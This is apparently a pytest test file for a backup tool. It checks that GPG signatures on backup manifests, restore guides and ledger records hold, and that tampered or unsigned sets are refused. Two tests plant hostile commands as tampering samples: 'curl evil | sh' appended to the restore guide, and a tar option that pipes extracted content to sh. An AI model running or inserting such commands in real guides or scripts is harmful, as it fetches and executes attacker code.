"""A store that others write to cannot make anybody use what the host did not sign."""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import partial
from typing import Any

import pytest

from nightscan_tasks import backup, wire
from nightscan_tasks import drill as drills
from nightscan_tasks.audit import Action
from nightscan_tasks.backup.sealing import unsealed
from nightscan_tasks.catalog import Catalog, signature_name
from nightscan_tasks.errors import DigestMismatch, ManifestInvalid, SettingsError, Untrusted
from nightscan_tasks.ledger import Ending
from nightscan_tasks.model import FOREVER, GUIDE_NAME, MANIFEST_NAME, Plan, SetId, Tier
from nightscan_tasks.replication import copy_set
from nightscan_tasks.restore import Choice, Request, Targets, choose, restore
from nightscan_tasks.restore.reading import plain
from nightscan_tasks.restore.recovering import recover
from nightscan_tasks.signatures import Seal
from nightscan_tasks.system import System
from nightscan_tasks.tasks.answering import refuse_unsigned
from nightscan_tasks.tasks.drills import drill as drill_task
from nightscan_tasks.tasks.restores import restore_system_config
from nightscan_tasks.verification import verify_set

HOST, OTHER = "host@nightscan.example.org", "other@nightscan.example.org"
WANTED = ("system_config",)


def unpack(host: Any, system: System, **choice: Any) -> Any:
    """A restore of the configuration into a folder."""
    targets = Targets(root=host.folder / "unpacked")
    return restore(system, Request(Choice(**choice), WANTED, targets))


def read(system: System, set_id: SetId) -> Any:
    """The first artifact of a set, whose manifest came from wherever."""
    manifest = system.catalog().get(set_id)
    return plain(system, system.catalog(), manifest, manifest.artifacts[0])


def nothing_unpacked(host: Any) -> bool:
    return not (host.folder / "unpacked/system_config").exists()


def test_a_set_is_signed_in_every_store_and_restored(host: Any) -> None:
    set_id = host.save()
    for store in ("backups", "offsite"):
        for name in (MANIFEST_NAME, GUIDE_NAME):
            host.keys.gpg("--verify", str(host.signature(set_id, name, store)),
                          str(host.path(set_id, name, store)))
    done = unpack(host, host.system)
    assert any(f"signed by key {host.keys.fingerprint(HOST)[-16:]}" in note for note in done.notes)
    assert (host.folder / "unpacked/system_config/etc/crontab").exists()


def test_the_guide_says_how_to_check_it_and_its_words_do(host: Any) -> None:
    set_id = host.save()
    guide = host.path(set_id, GUIDE_NAME).read_text()
    assert host.keys.fingerprint(HOST) in guide
    command = guide.partition("```sh\n")[2].partition("```")[0]
    assert "gpg --verify" in command
    run = partial(subprocess.run, [shutil.which("bash") or "bash", "-ec", command], capture_output=True,
                  text=True, cwd=host.path(set_id, ""), env={
                      "PATH": "/usr/bin:/bin", "GNUPGHOME": str(host.keys.home), "LC_ALL": "C"}, check=False)
    assert "Good signature" in run().stderr
    path = host.path(set_id, GUIDE_NAME)
    path.write_text(guide.replace("tar --extract", "tar --extract --to-command=sh"))
    done = run()
    assert (done.returncode, "Good signature" in done.stderr) == (1, False)


# What an attacker does to a set.

def edit_manifest(host: Any, set_id: SetId) -> None:
    host.edit(set_id, lambda facts: facts.update(host="evil"))


def rewrite_all_but_the_signature(host: Any, set_id: SetId) -> None:
    evil = b"evil"

    def change(facts: dict[str, Any]) -> None:
        facts["artifacts"][0].update(stored_bytes=4, stored_sha256=hashlib.sha256(evil).hexdigest(),
                                     plain_sha256="0" * 64, block_bytes=0, stored_prefixes=[])
    old = host.signature(set_id).read_bytes()
    host.edit(set_id, change)
    host.signature(set_id).write_bytes(old)
    host.artifact(set_id).write_bytes(evil)


def remove_signature(host: Any, set_id: SetId) -> None:
    host.unsign(set_id)


def spoil_signature(host: Any, set_id: SetId) -> None:
    head, tail = b"-----BEGIN PGP SIGNATURE-----\n\n", b"\n-----END PGP SIGNATURE-----\n"
    host.signature(set_id).write_bytes(head + b"iHUE" + tail)


def huge_signature(host: Any, set_id: SetId) -> None:
    host.signature(set_id).write_bytes(b"-" * (1 << 20))


def sign_with_another_key(host: Any, set_id: SetId) -> None:
    host.resign(set_id, by=OTHER)


def add_another_signature(host: Any, set_id: SetId) -> None:
    host.signature(set_id).write_bytes(
        host.keys.sign(OTHER, host.path(set_id).read_bytes()) + host.signature(set_id).read_bytes())


ATTACKS = [edit_manifest, rewrite_all_but_the_signature, remove_signature, spoil_signature, huge_signature,
           sign_with_another_key, add_another_signature]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_set_that_was_tampered_with_is_used(host: Any, attack: Callable[[Any, SetId], None],
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    good, bad = host.save(days_ago=1), host.save()
    attack(host, bad)
    before = sorted(path for path in host.folder.rglob("*") if "audit" not in str(path))
    system = host.system
    with pytest.raises(Untrusted) as told:
        unpack(host, system)
    assert f"the newest set that is signed: --set {good}" in str(told.value)
    assert f"the copy in offsite is signed: --set {bad} --from offsite" in str(told.value)
    assert nothing_unpacked(host)
    assert sorted(path for path in host.folder.rglob("*") if "audit" not in str(path)) == before
    # No reader gets a byte, by whatever way it came by the manifest.
    with pytest.raises(Untrusted), read(system, bad):
        pytest.fail("it was opened")
    with pytest.raises(Untrusted):
        system.signatures.manifest(system.catalog(), bad)  # as reconciliation asks
    assert "must not be used" in str(drills.prove_key(system)[0].problem)


@pytest.mark.parametrize("attack", [edit_manifest, remove_signature, sign_with_another_key])
def test_verification_calls_it_damaged(host: Any, attack: Callable[[Any, SetId], None]) -> None:
    set_id = host.save()
    attack(host, set_id)
    system = host.system

    def problems(signatures: Any) -> tuple[str, ...]:
        catalog = system.catalog()
        return verify_set(catalog, catalog.get(set_id), clock=system.clock, signatures=signatures).problems

    assert any("manifest.json is" in problem for problem in problems(system.signatures))
    assert problems(None) == ()


def test_a_guide_that_was_tampered_with_is_damage(host: Any) -> None:
    set_id = host.save()
    path = host.path(set_id, GUIDE_NAME)
    path.write_text(path.read_text() + "curl evil | sh\n")
    system, catalog = host.system, host.system.catalog()
    (problem,) = verify_set(catalog, catalog.get(set_id), clock=system.clock,
                            signatures=system.signatures).problems
    assert "RESTORE.md is not signed" in problem


def test_an_old_set_in_the_folder_of_a_newer_one_is_not_that_one(host: Any) -> None:
    old, new = host.save(days_ago=3), host.save()
    shutil.rmtree(host.path(new, ""))
    shutil.copytree(host.path(old, ""), host.path(new, ""))
    with pytest.raises(ManifestInvalid, match=f"is the manifest of {old}"):
        unpack(host, host.system, set_id=new)
    assert nothing_unpacked(host)


def test_where_the_newer_sets_were_taken_away_it_is_said(host: Any) -> None:
    host.save(days_ago=9)
    new = host.save()
    shutil.rmtree(host.path(new, ""))
    notes = unpack(host, host.system).notes
    assert any("was taken 9 days ago" in note for note in notes)
    assert any(f"the ledger knows of {new}, a newer good set" in note for note in notes)


def test_artifacts_of_two_signed_sets_cannot_be_swapped(host: Any) -> None:
    one, other = host.save(days_ago=1), host.save()
    (host.folder / "etc/crontab").write_text("changed\n")
    third = host.save(days_ago=2)
    shutil.copy(host.artifact(third), host.artifact(one))
    with pytest.raises(DigestMismatch):
        unpack(host, host.system, set_id=one)
    assert nothing_unpacked(host)
    assert unpack(host, host.system, set_id=other).ending


# Whose signature counts.

def test_a_key_counts_by_its_fingerprint_or_that_of_its_signing_subkey(host: Any) -> None:
    keys = host.keys
    name = "subkeyed@nightscan.example.org"
    keys.make(name, use="cert")
    keys.gpg("--passphrase", "", "--quick-add-key", keys.fingerprint(name), "ed25519", "sign")
    set_id = host.save(NIGHTSCAN_SIGNING_KEY=name)
    for row in (0, 1):
        system = host.with_settings(NIGHTSCAN_SIGNING_KEY="",
                                    NIGHTSCAN_TRUSTED_SIGNERS=keys.fingerprint(name, row).lower())
        assert system.signatures.standing(system.catalog(), set_id).seal is Seal.GOOD
    with pytest.raises(Untrusted, match=f"{keys.fingerprint(name, 1)}, which is not trusted here"):
        unpack(host, host.system)


def test_a_key_that_expired_since_still_counts_and_one_that_was_revoked_does_not(host: Any) -> None:
    set_id, keys = host.save(), host.keys
    name = "expired@nightscan.example.org"
    host.resign(set_id, None, name, "--faked-system-time", "20240110T000000")
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="", NIGHTSCAN_TRUSTED_SIGNERS=keys.fingerprint(name))
    assert any("which has expired since" in note for note in unpack(host, system).notes)
    gone = "gone@nightscan.example.org"
    keys.make(gone)
    host.resign(set_id, by=gone)
    keys.revoke(gone)
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="", NIGHTSCAN_TRUSTED_SIGNERS=keys.fingerprint(gone))
    with pytest.raises(Untrusted, match="which was revoked"):
        choose(system, Choice(set_id=set_id), WANTED)


def test_without_the_public_key_the_set_is_refused_and_what_to_import_is_said(
        host: Any, new_ring: Callable[[], Any]) -> None:
    host.save()
    trusted = host.keys.fingerprint(HOST)
    system = host.with_settings(NIGHTSCAN_GPG_HOME=str(new_ring().home), NIGHTSCAN_SIGNING_KEY="",
                                NIGHTSCAN_TRUSTED_SIGNERS=trusted)
    with pytest.raises(Untrusted, match=r"not in the key ring: `gpg --import`"):
        unpack(host, system)
    public = new_ring()
    public.gpg("--import", feed=host.keys.gpg("--export", HOST))
    system = host.with_settings(NIGHTSCAN_GPG_HOME=str(public.home))  # that name could be anybody's
    with pytest.raises(Untrusted, match="set NIGHTSCAN_TRUSTED_SIGNERS"):
        unpack(host, system)
    with pytest.raises(SettingsError, match="40 hexadecimal digits"):
        host.with_settings(NIGHTSCAN_TRUSTED_SIGNERS="0123456789ABCDEF")


# What a person may do all the same.

def old_format(host: Any, set_id: SetId) -> None:
    """A set as it was written before there were signatures, and hashes of blocks."""
    host.unsign(set_id)

    def change(facts: dict[str, Any]) -> None:
        for artifact in facts["artifacts"]:
            del artifact["block_bytes"], artifact["stored_prefixes"]
            plain = gzip.decompress(host.path(set_id, artifact["name"]).read_bytes())
            artifact["plain_sha256"] = hashlib.sha256(plain).hexdigest()
    host.edit(set_id, change)


def test_a_set_from_before_is_restored_where_a_person_answers_for_it_and_that_is_recorded(host: Any) -> None:
    set_id = host.save()
    old_format(host, set_id)
    system = host.system
    with pytest.raises(Untrusted, match="--unsigned"):
        unpack(host, system)
    done = unpack(host, system, unsigned=True)
    assert any("it is not signed" in note for note in done.notes)
    (record,) = (each for each in system.audit.records().records if each.action == Action.UNSIGNED)
    assert (record.subject, record.facts["run"]) == (str(set_id), done.run_id)


def test_a_message_that_is_not_signed_answers_for_nothing(host: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    host.unsign(host.save())
    for name, value in host.environ.items():
        monkeypatch.setenv(name, value)
    root = str(host.folder / "unpacked")
    with pytest.raises(Untrusted, match="--local"):
        restore_system_config.apply(kwargs={"unsigned": True, "target_root": root}, throw=True)
    with pytest.raises(Untrusted, match="--local"):
        drill_task.apply(kwargs={"unsigned": True}, throw=True)
    assert nothing_unpacked(host)
    signed = dict.fromkeys((f"NIGHTSCAN_MESSAGE_{each}" for each in ("KEY", "CERTIFICATE", "CERTIFICATES")),
                           str(host.folder))
    refuse_unsigned(host.with_settings(**signed), unsigned=True)


def test_where_no_key_is_trusted_sets_are_used_and_it_is_said_what_they_are(host: Any) -> None:
    signed, unsigned = host.save(days_ago=1), host.save()
    old_format(host, unsigned)
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="")
    assert any("it is not signed" in note for note in unpack(host, system).notes)
    shutil.rmtree(host.folder / "unpacked")
    assert any("it is signed (not checked)" in note for note in unpack(host, system, set_id=signed).notes)
    assert all(each.action != Action.UNSIGNED for each in system.audit.records().records)


def test_of_a_set_without_hashes_of_blocks_nothing_is_unpacked_before_all_of_it_was_compared(
        host: Any) -> None:
    set_id = host.save()
    system = host.with_settings(NIGHTSCAN_SIGNING_KEY="")
    old_format(host, set_id)
    path = host.artifact(set_id)
    path.write_bytes(path.read_bytes() + b"one byte more at the end")
    manifest = system.catalog().get(set_id)
    artifact = next(each for each in manifest.artifacts if each.name == path.name)
    with (pytest.raises(DigestMismatch, match="bytes expected"),
          plain(system, system.catalog(), manifest, artifact)):
        pytest.fail("it was opened")


# What becomes of signatures on their way.

def test_a_copy_is_of_the_exact_bytes_and_its_signatures_hold(host: Any) -> None:
    set_id = host.save(NIGHTSCAN_OFFSITE="")
    host.edit(set_id, lambda facts: facts.update(colour="of a later version"))  # lost by whoever encodes anew
    host.resign(set_id)
    system = host.system
    target = system.store("offsite")
    copy_set(system.primary, target, system.catalog().get(set_id))
    for name in (MANIFEST_NAME, GUIDE_NAME):
        assert host.path(set_id, name).read_bytes() == host.path(set_id, name, "offsite").read_bytes()
    assert verify_set(Catalog(target), Catalog(target).get(set_id), clock=system.clock,
                      signatures=system.signatures).problems == ()
    assert unpack(host, system, store="offsite").store == "offsite"


def test_two_that_settle_one_run_at_once_leave_a_manifest_that_is_signed(host: Any) -> None:
    set_id, system = host.save(), host.system
    catalog = system.catalog()
    later = replace(catalog.get(set_id), settled_at=datetime.now(UTC) + timedelta(seconds=1))
    catalog.publish(later, sign=system.signer.sign if system.signer else None)
    assert catalog.get(set_id) != later
    assert system.signatures.standing(catalog, set_id).seal is Seal.GOOD
    assert host.path(set_id, signature_name(MANIFEST_NAME, wire.encode(later))).exists()
    catalog.delete(set_id)
    assert not host.path(set_id, "").exists() or list(host.path(set_id, "").iterdir()) == []


def test_the_signature_is_there_before_the_set_is(host: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    order: list[str] = []
    kind = type(host.system.primary)
    put = kind.put

    def recorded(store: Any, key: str, *words: Any, **options: Any) -> Any:
        order.append(key)
        return put(store, key, *words, **options)

    monkeypatch.setattr(kind, "put", recorded)
    set_id = host.save(NIGHTSCAN_OFFSITE="")
    papers = [key.rpartition("/")[2] for key in order
              if key.startswith(f"{set_id}/") and (MANIFEST_NAME in key or GUIDE_NAME in key)]
    assert [name.endswith(".asc") for name in papers] == [True, False, True, False]
    assert papers[-1] == MANIFEST_NAME


def test_a_set_that_cannot_be_signed_is_kept_and_the_run_is_degraded(host: Any) -> None:
    outcome = host.run(NIGHTSCAN_SIGNING_KEY="expired@nightscan.example.org")
    assert outcome.ending is Ending.DEGRADED
    assert any("the set is not signed" in note and "it expired" in note for note in outcome.notes)
    assert host.system.catalog().get(outcome.set_id).complete
    with pytest.raises(Untrusted):
        unpack(host, host.system)


def test_settling_again_signs_nothing_that_others_wrote(host: Any) -> None:
    set_id = host.save()
    edit_manifest(host, set_id)
    system = host.system
    backup.settle(system, system.catalog().get(set_id).run_id)
    assert system.signatures.standing(system.catalog(), set_id).seal is Seal.MISSING


def made_up(record: dict[str, Any]) -> None:
    record["report"]["notes"] = ["evil"]


def not_signed(record: dict[str, Any]) -> None:
    record["signature"] = ""


@pytest.mark.parametrize("forge", [made_up, not_signed, None])
def test_the_key_signs_nothing_that_others_wrote_into_the_ledger(
        host: Any, forge: Callable[[Any], None] | None) -> None:
    system = host.with_settings(NIGHTSCAN_OFFSITE="")
    run = backup.open_run(system, backup.Request(Plan(Tier.DAILY, WANTED, FOREVER))).run
    backup.start(system, run)
    backup.dump(system, run.run_id, "system_config")
    path = host.folder / "backups/runs" / run.run_id / "part.system_config.json"
    record = json.loads(path.read_text())
    if forge is not None:
        forge(record)
        path.write_text(json.dumps(record))
    outcome = backup.settle(system, run.run_id)
    assert outcome
    doubts = [note for note in outcome.notes if "the record of system_config in the ledger is" in note]
    assert bool(doubts) is (forge is not None)
    assert outcome.ending is (Ending.DEGRADED if doubts else Ending.GOOD)
    seal = system.signatures.standing(system.catalog(), run.set_id).seal
    assert seal is (Seal.MISSING if doubts else Seal.GOOD)


def test_a_record_that_was_signed_for_one_run_counts_in_no_other(host: Any) -> None:
    set_id = host.save()
    run_id = f"daily-{str(set_id).partition('/')[2]}"
    record = host.system.ledger.part(run_id, "system_config")
    assert list(unsealed(host.system, run_id, [record])) == []
    assert "BAD signature" in next(iter(unsealed(host.system, f"{run_id[:-3]}59Z", [record])))


def test_a_listing_asks_gpg_for_nothing_and_reads_each_manifest_once(
        host: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    set_ids = [host.save(days_ago=day, NIGHTSCAN_OFFSITE="") for day in range(3)]
    host.unsign(set_ids[1])
    monkeypatch.setenv("PATH", "/nowhere")
    catalog = host.system.catalog()
    opened: list[str] = []
    kind = type(catalog.store)
    original = kind.open

    def counted(store: Any, key: str) -> Any:
        opened.append(key)
        return original(store, key)

    monkeypatch.setattr(kind, "open", counted)
    assert [found.signed for found in catalog.seen()] == [True, False, True]
    assert opened == [set_id.key(MANIFEST_NAME) for set_id in set_ids]


def test_a_recovery_refuses_what_is_not_signed_before_it_fetches_anything(host: Any) -> None:
    set_id = host.save()

    def pretend(facts: dict[str, Any]) -> None:
        report = facts["components"]["system_config"]
        facts["components"] |= dict.fromkeys(("database", "redis", "user_data"), report)
        some = facts["artifacts"][0] | {"plain_sha256": "0" * 64}
        facts["artifacts"] += [some | {"name": f"{name}.x", "component": name, "part": name}
                               for name in ("database", "redis", "user_data")]
    host.edit(set_id, pretend, "offsite")
    shutil.rmtree(host.folder / "backups")
    with pytest.raises(Untrusted):
        recover(host.system, str(host.folder / "offsite"))
    assert not host.path(set_id, "").exists()
